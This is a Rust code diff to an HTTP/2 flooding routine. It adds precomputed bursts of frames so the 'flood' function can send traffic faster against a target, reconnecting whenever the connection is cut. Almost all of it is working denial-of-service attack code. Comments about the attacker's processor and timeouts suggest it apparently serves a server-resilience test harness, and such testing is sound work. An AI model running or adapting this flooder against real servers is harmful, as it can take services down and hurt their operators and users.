@@ -101,6 +101,8 @@ impl Attack {
 /// Batches between two pauses, the pause, and that before the next connection.
 const BURST: u32 = 50;
 const BREATH: Duration = Duration::from_millis(2);
+/// Bursts that are put together before the first connection: nearly all are cut within them.
+const READY: u32 = 16;
 const AGAIN: Duration = Duration::from_millis(20);
 
 /// Seconds in which a timeout of a minute shows, and in which two do, one after the other: that of the requests, and that of a
@@ -283,8 +285,16 @@ enum Trickle {
     Read,
 }
 
+/// The bytes of so many turns.
+fn burst(turns: std::ops::Range<u32>, batch: fn(u32) -> Vec<Frame>) -> Vec<u8> {
+    turns.flat_map(batch).flat_map(|frame| frame.bytes()).collect()
+}
+
 /// Sends frames until the connection is cut, again and again.
 fn flood(target: &Target, batch: fn(u32) -> Vec<Frame>) {
+    // To put them together takes milliseconds of a processor, and the attacker's is another one than ours.
+    let ready: Vec<Vec<u8>> =
+        (0..READY).map(|place| burst(place * BURST..(place + 1) * BURST, batch)).collect();
     while target.goes_on() {
         let Ok(mut client) = Http2::connect(target.plain) else {
             std::thread::sleep(AGAIN);
@@ -294,10 +304,12 @@ fn flood(target: &Target, batch: fn(u32) -> Vec<Frame>) {
         let mut turn = 0;
         let mut open = client.greet(&[]).is_ok();
         while open && target.goes_on() {
-            let bytes: Vec<u8> =
-                (turn..turn + BURST).flat_map(batch).flat_map(|frame| frame.bytes()).collect();
+            let place = (turn / BURST) as usize;
+            open = match ready.get(place) {
+                Some(bytes) => client.send(bytes).is_ok(),
+                None => client.send(burst(turn..turn + BURST, batch)).is_ok(),
+            };
             turn += BURST;
-            open = client.send(bytes).is_ok();
             std::thread::sleep(BREATH);
         }
         if !open {
